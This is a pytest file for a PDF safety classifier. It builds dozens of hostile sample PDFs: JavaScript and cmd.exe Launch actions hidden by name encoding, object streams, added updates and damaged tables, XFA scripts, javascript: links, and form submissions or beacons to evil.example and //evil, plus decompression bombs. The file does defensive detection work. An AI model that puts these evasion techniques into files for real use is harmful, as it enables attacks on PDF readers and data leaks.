"""A PDF is judged by its structure: whatever way it is packed, and however it is damaged."""

import io
import zlib

import pikepdf
import pytest

from tests.builders import PDF
from tests.survey.evidence.files import make_docx, make_image
from tests.survey.evidence.judge.outcomes import outcome
from tests.survey.evidence.judge.pdfs import (
    HEAD,
    OPENED,
    SCRIPT,
    make_attachment,
    make_object_stream,
    make_packed_pdf,
    make_pdf,
    make_stream,
)


def _xfa(form: bytes, filters: bytes = b"") -> bytes:
    stream = make_stream(form, filters)
    return make_pdf(stream, catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>")


def _predicted(columns: int = 8) -> bytes:
    """The same object stream as a picture is packed: each row told by the one above it."""
    plain = b"4 0 " + SCRIPT
    plain += b" " * (-len(plain) % columns)
    rows = [plain[at : at + columns] for at in range(0, len(plain), columns)]
    before = bytes(columns)
    packed = b""
    for row in rows:
        steps = (now - above & 0xFF for now, above in zip(row, before, strict=True))
        packed += b"\x02" + bytes(steps)
        before = row
    entries = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
    entries += b"/DecodeParms<</Predictor 12/Columns %d>>" % columns
    return make_packed_pdf(make_stream(zlib.compress(packed), entries))


def _encrypted(user: str, catalog: bytes = OPENED) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf(SCRIPT, catalog=catalog))) as pdf:
        lock = pikepdf.Encryption(user=user, owner="chu-tiem", R=6)
        pdf.save(
            out,
            encryption=lock,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        )
    return out.getvalue()


def _updated() -> bytes:
    """Harmless when it was written first; a script was added at its end."""
    first = make_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=OPENED)
    table = first.rindex(b"xref\n0 ")
    place = len(first)
    added = b"4 0 obj\n%s\nendobj\n" % SCRIPT
    rows = b"xref\n4 1\n%010d 00000 n \n" % place
    trailer = b"trailer\n<</Size 5/Root 1 0 R/Prev %d>>\n" % table
    end = b"startxref\n%d\n%%%%EOF\n" % (place + len(added))
    return first + added + rows + trailer + end


def _hybrid() -> bytes:
    """Old readers see a table without the script, new ones a second table with it."""
    new = make_packed_pdf(make_object_stream(SCRIPT))
    stream_table = new.rindex(b"6 0 obj")
    body = new[: new.rindex(b"startxref")]
    places = [body.index(b"%d 0 obj" % number) for number in (1, 2, 3)]
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 4\n0000000000 65535 f \n" + rows
    trailer = b"trailer\n<</Size 7/Root 1 0 R/XRefStm %d>>\n" % stream_table
    return body + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)


def _out_of_sight() -> bytes:
    """Its table does not know the script, which readers of a damaged table find."""
    content = make_pdf(b"<<>>")
    hidden = b"4 0 obj\n%s\nendobj\n" % SCRIPT
    table = content.rindex(b"xref\n0 ")
    start = b"startxref\n%d\n" % table
    moved = b"startxref\n%d\n" % (table + len(hidden))
    return (content[:table] + hidden + content[table:]).replace(start, moved)


ACTIVE = {
    "plainly": make_pdf(SCRIPT, catalog=OPENED),
    "in the catalog": make_pdf(catalog=b"/OpenAction" + SCRIPT),
    "by name": make_pdf(SCRIPT, catalog=b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>"),
    "letters as numbers": make_pdf(b"<</#53/Java#53cr#69pt/#4AS(1)>>", catalog=OPENED),
    "its kind in another object": make_pdf(
        b"<</S 5 0 R/JS(1)>>", b"/JavaScript", catalog=OPENED
    ),
    "its text in a stream": make_pdf(
        b"<</S/JavaScript/JS 5 0 R>>", make_stream(b"app.alert(1)"), catalog=OPENED
    ),
    "on a page": make_pdf(
        b"<</Type/Annot/Subtype/Widget/AA<</E%s>>>>" % SCRIPT,
    ),
    "after another action": make_pdf(
        b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/NextPage/Next%s>>]>>" % SCRIPT,
        catalog=OPENED,
    ),
    "two kinds at once": make_pdf(b"<</S/JavaScript/S/GoTo/JS(1)>>", catalog=OPENED),
    "a film": make_pdf(b"<</S/Rendition/JS(1)/OP 0>>", catalog=OPENED),
    "a launch": make_pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=OPENED),
    "a launch on one system": make_pdf(b"<</S/Launch/Win<</F(cmd.exe)>>>>"),
    "an address that is a script": make_pdf(
        b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(Java\\163cript:app.alert\\(1\\))>>>>"
    ),
    "a script as what all addresses begin with": make_pdf(
        catalog=b"/URI<</Base(javascript:a//)>>"
    ),
    "rich media": make_pdf(b"<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>"),
    "a model": make_pdf(
        make_stream(b"", b"/Type/3D/Subtype/U3D/OnInstantiate 5 0 R"), make_stream(b"")
    ),
    "packed": make_packed_pdf(make_object_stream(SCRIPT)),
    "(obj) in a packed dictionary": make_packed_pdf(
        make_object_stream(b"<</Title(1 0 obj)/S/JavaScript/JS(obj)>>")
    ),
    "(obj) before the filter": make_packed_pdf(
        make_object_stream(SCRIPT, filters=b"/X(4 0 obj)/Filter/FlateDecode")
    ),
    "a dictionary beyond 2,048 bytes": make_packed_pdf(
        make_object_stream(SCRIPT, filters=b"/X(%s)/Filter/FlateDecode" % (b"x" * 3000))
    ),
    "a filter by its short name": make_packed_pdf(
        make_object_stream(SCRIPT, filters=b"/Filter[/Fl]")
    ),
    "a stream's kind in numbers": make_packed_pdf(
        make_object_stream(SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")
    ),
    "a blank after stream": make_packed_pdf(
        make_object_stream(SCRIPT).replace(b"stream\n", b"stream \n", 1)
    ),
    "CR after stream": make_packed_pdf(
        make_object_stream(SCRIPT).replace(b"stream\n", b"stream\r", 1)
    ),
    "with a predictor": _predicted(),
    "nobody's object stream": make_pdf(b"<<>>", make_object_stream(SCRIPT, first=9)),
    "one more object stream": make_packed_pdf(
        make_object_stream(SCRIPT, filters=b"/Extends 9 0 R/Filter/FlateDecode")
    ),
    "encrypted without a password": _encrypted(user=""),
    "added later": _updated(),
    "with two tables": _hybrid(),
    "unknown to its table": _out_of_sight(),
    "under a number given twice, first": PDF.replace(
        b"trailer", b"4 0 obj%sendobj\n4 0 obj<<>>endobj\ntrailer" % SCRIPT
    ),
    "under a number given twice, last": PDF.replace(
        b"trailer", b"4 0 obj<<>>endobj\n4 0 obj%sendobj\ntrailer" % SCRIPT
    ),
    "packed under a number given twice": PDF.replace(
        b"trailer", b"1 0 obj%sendobj\ntrailer" % make_object_stream(SCRIPT)
    ),
    "packed objects that no table finds": make_packed_pdf(
        make_object_stream(SCRIPT)
    ).replace(b"/W[1 4 2]", b"/W[1 4 1]"),
    "with a damaged table": make_pdf(SCRIPT, catalog=OPENED).replace(
        b"xref\n0 ", b"xrxx\n0 "
    ),
    "a form with a script": _xfa(
        b"<xdp><field><event><script>x</script></event></field></xdp>"
    ),
    "a form in two parts": make_pdf(
        make_stream(b"<x:xdp xmlns:x='a'><x:sc"),
        make_stream(b"ript>1</x:script></x:xdp>"),
        catalog=b"/AcroForm<</XFA[(a) 4 0 R(b) 5 0 R]>>",
    ),
    "a form in UTF-16": _xfa("\ufeff<xdp><script>1</script></xdp>".encode("utf-16-le")),
    "a packed form": _xfa(
        zlib.compress(b"<xdp><submit/></xdp>"), b"/Filter/FlateDecode"
    ),
    "a form nobody can read": _xfa(b"<xdp><"),
    "a form with a document type": _xfa(
        b"<!DOCTYPE x [<!ENTITY s '&#60;script>1</script>'>]><x>&s;</x>"
    ),
}


@pytest.mark.parametrize("way", ACTIVE)
def test_a_program_is_found_however_it_is_packed(way):
    assert outcome(ACTIVE[way]) == "file_active"


REACHES_OUT = {
    "sends a form": make_pdf(
        b"<</S/SubmitForm/F(https://evil.example)>>", catalog=OPENED
    ),
    "sends what was typed": make_pdf(
        b"<</Type/Annot/Subtype/Widget/A<</S/SubmitForm/F<</FS/URL/F(http://e.example)>>>>>>"
    ),
    "fetches data": make_pdf(b"<</S/ImportData/F(a.fdf)>>", catalog=OPENED),
    "goes to another file": make_pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)/D[0]>>"),
    "goes to a file inside": make_pdf(b"<</S/GoToE/T<</R/C/N(a)>>>>"),
    "calls as it opens": make_pdf(
        b"<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>",
        b"<</S/URI/URI(https://evil.example/seen)>>",
        catalog=OPENED,
    ),
    "calls as a page opens": make_pdf(
        b"<</O<</S/URI/URI(https://evil.example/seen)>>>>", catalog=b"/AA 4 0 R"
    ),
    "shows a page of another file": make_pdf(
        make_stream(
            b"", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Ref<</F 5 0 R/Page 0>>"
        ),
        b"(//evil/a.pdf)",
    ),
    "shows a picture of another place": make_pdf(
        make_stream(b"", b"/OPI<</2.0<</F(http://evil.example/a.tif)>>>>")
    ),
    "plays a film of another place": make_pdf(
        b"<</S/MR/C<</S/MCD/D<</Type/Filespec/UF<5c5c6576696c5c612e6d7034>>>>>>>"
    ),
    "a form that asks a service": _xfa(b"<x><wsdlConnection name='a'/></x>"),
    "a form with a picture from elsewhere": _xfa(b"<x><image href='//evil/a'/></x>"),
    "has its bytes elsewhere": make_pdf(
        b"<</Length 0/F(\\\\\\\\evil\\\\a)/FFilter/FlateDecode>>\nstream\n\nendstream"
    ),
}


@pytest.mark.parametrize("way", REACHES_OUT)
def test_what_sends_or_fetches_is_told_so(way):
    assert outcome(REACHES_OUT[way]) == "file_reaches_out"


HARMLESS = {
    "a page": make_pdf(),
    "a page, its table wrong": PDF,
    "a title": make_pdf(trailer=b"/Info<</Title(HTML/CSS/JavaScript /JS /Launch)>>"),
    "a link": make_pdf(
        b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://a.example/JavaScript)>>>>"
    ),
    "a letter": make_pdf(b"<</Subtype/Link/A<</S/URI/URI(mailto:hoa@pho.example)>>>>"),
    "a heading in a style of that name": make_pdf(
        b"<</Type/StructElem/S/JavaScript/P 1 0 R/K[1]>>"
    ),
    "a place it opens at": make_pdf(
        *[b"<</Type/X/Of 3 0 R/Beside %d 0 R>>" % (5 + row) for row in range(1500)],
        b"<<>>",
        catalog=b"/OpenAction[4 0 R/XYZ 0 0 0]",
    ),
    "a jump": make_pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=OPENED),
    "printed as it opens": make_pdf(b"<</S/Named/N/Print>>", catalog=OPENED),
    "objects packed away": make_packed_pdf(make_object_stream(b"<</Type/X>>")),
    "words that are none": make_pdf(b"<</JavaScripture 1/S/Launchpad>>"),
    "a form without programs": _xfa(b"<xdp><field name='script'>submit</field></xdp>"),
    "a signed invoice in XML": make_attachment(
        b"a.xml", b"<HDon><ds:Object xmlns:ds='d'>27/11/2026</ds:Object></HDon>"
    ),
    "an invoice in XML": make_attachment(
        b"hoa-don.xml", b"<?xml version='1.0'?><HDon/>"
    ),
    "a picture": make_attachment(b"a.JPG", make_image()),
    "a picture called after where it lay": make_attachment(
        b"\\\\server\\chung\\a.jpg", make_image()
    ),
    "marks of notes, and a film beside it": make_pdf(
        b"<</Type/Annot/Subtype/Text/F 28>>", b"<</Type/Filespec/F(phim.mp4)>>"
    ),
    "a table": make_attachment(b"a.csv", "tên,giá\n".encode("utf-16")),
    "a workbook": make_attachment(b"a.docx", make_docx()),
    "signed": make_pdf(b"<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>"),
    "BOM first": b"\xef\xbb\xbf" + make_pdf(),
    "a new line first": b"\r\n" + make_pdf(),
    "a printer's words first": b"\x1b%-12345X@PJL JOB\n" + make_pdf(),
    "a mail's words first": b"Content-Type: application/pdf\r\n\r\n" + make_pdf(),
    "blanks behind": make_pdf() + b" " * 4000,
    "zeros behind": make_pdf() + b"\0" * 4000,
    "a title in signs of Việt Nam": make_pdf(
        b"<</Title(Thi\xe1\xba\xbft k\xe1\xba\xbf HTML/JavaScript)>>"
    ),
    "a page that tells of it": make_pdf(make_stream(b"BT (HTML/JavaScript) Tj ET")),
    "a page behind": make_pdf() + b"\n<!-- served by the archive -->\n",
    "without its end": make_pdf()[:-30],
    "as FTP in text turns it": make_pdf().replace(b"\n", b"\r\n"),
}


@pytest.mark.parametrize("way", HARMLESS)
def test_what_readers_open_without_a_program_is_taken_as_it_is(way):
    assert outcome(HARMLESS[way]) == "pdf"


@pytest.mark.parametrize("what", ["an outline", "a style"])
def test_a_mention_in_a_damaged_file_does_no_harm_where_it_was_read(what):
    mention = {
        "an outline": b"<</Title(/JavaScript)>>",
        "a style": b"<</P 1 0 R/S/Launch>>",
    }
    content = make_pdf(mention[what]).replace(b"xref\n0 ", b"xrxx\n0 ")
    assert outcome(content) == "pdf"


def test_a_linearised_file_is_taken():
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        pdf.save(out, linearize=True)
    assert outcome(out.getvalue()) == "pdf"


def test_a_file_that_only_its_owner_may_change_is_taken():
    assert outcome(_encrypted(user="", catalog=b"")) == "pdf"


BROKEN = {
    "an action without its end": make_pdf(b"<</S/JavaScript/JS(1) ", catalog=OPENED),
    "an action without half its end": make_pdf(
        b"<</S/JavaScript/JS(1)>", catalog=OPENED
    ),
    "an action with a sign too much": make_pdf(
        b"<<</S/JavaScript/JS 3 0 R>>", catalog=OPENED
    ),
    "an action that follows a sign": PDF.replace(
        b"trailer", b")4 0 obj" + SCRIPT + b"endobj\ntrailer"
    ),
    "packed objects without their end": make_packed_pdf(
        make_object_stream(SCRIPT) + b"\n("
    ),
    "a file inside that cannot be unpacked": make_attachment(
        b"a.txt", b"\xff", b"/Filter/FlateDecode"
    ),
    "a head alone": HEAD,
    "a page behind a head": HEAD + b"<script>alert(1)</script>",
    "packed objects that are none": make_packed_pdf(
        make_stream(b"\xff" * 40, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    ),
    "packed objects under a filter for pictures": make_packed_pdf(
        make_object_stream(SCRIPT, filters=b"/Filter/DCTDecode")
    ),
    "packed objects under a filter that only some see": make_packed_pdf(
        make_object_stream(SCRIPT, filters=b"/F/FlateDecode")
    ),
    "an action read one way or another": make_pdf(b"<</S/Launch/S/GoTo/F(cmd.exe)>>"),
}


@pytest.mark.parametrize("way", BROKEN)
def test_what_cannot_be_looked_into_is_refused(way):
    assert outcome(BROKEN[way]) == "file_broken"


def test_a_file_that_only_its_password_opens_is_told_so():
    assert outcome(_encrypted(user="mo-ra")) == "file_locked"


def test_a_file_for_the_owners_of_certain_keys_is_told_to_be_locked():
    lock = b"/Encrypt<</Filter/Adobe.PubSec/V 4/SubFilter/adbe.pkcs7.s4>>"
    assert outcome(make_pdf(trailer=b"/ID[<00><00>]" + lock)) == "file_locked"


def test_an_action_deeper_than_the_library_reads_is_refused():
    deep = b"[" * 600 + SCRIPT + b"]" * 600
    assert outcome(make_pdf(deep)) in {"file_heavy", "file_active"}


@pytest.mark.parametrize("filters", [b"/FlateDecode", b"[/FlateDecode/FlateDecode]"])
def test_objects_that_unpack_to_far_more_than_the_file_are_refused(filters):
    packed = zlib.compress(b" " * 60_000_000)
    if b"[" in filters:
        packed = zlib.compress(packed)
    entries = b"/Type/ObjStm/N 1/First 4/Filter" + filters
    assert outcome(make_packed_pdf(make_stream(packed, entries))) == "file_heavy"


@pytest.mark.parametrize(
    "entries",
    [
        b"/Filter/FlateDecode",
        b"/Filter[/FlateDecode/FlateDecode]",
        b"/Subtype/Image/Filter[/Fl/FlateDecode]",
    ],
)
def test_a_page_that_unpacks_to_far_more_than_the_file_is_refused(entries):
    packed = zlib.compress(b" " * 60_000_000)
    if b"[" in entries:
        packed = zlib.compress(packed)
    assert outcome(make_pdf(make_stream(packed, entries))) == "file_heavy"


@pytest.mark.parametrize(
    "entries", [b"/Subtype/Image/Filter/FlateDecode", b"/Filter/FlateDecode"]
)
def test_a_large_picture_and_a_damaged_page_are_taken(entries):
    packed = zlib.compress(b" " * 60_000_000)
    content = packed if b"Image" in entries else b"\xff" * 40
    assert outcome(make_pdf(make_stream(content, entries))) == "pdf"
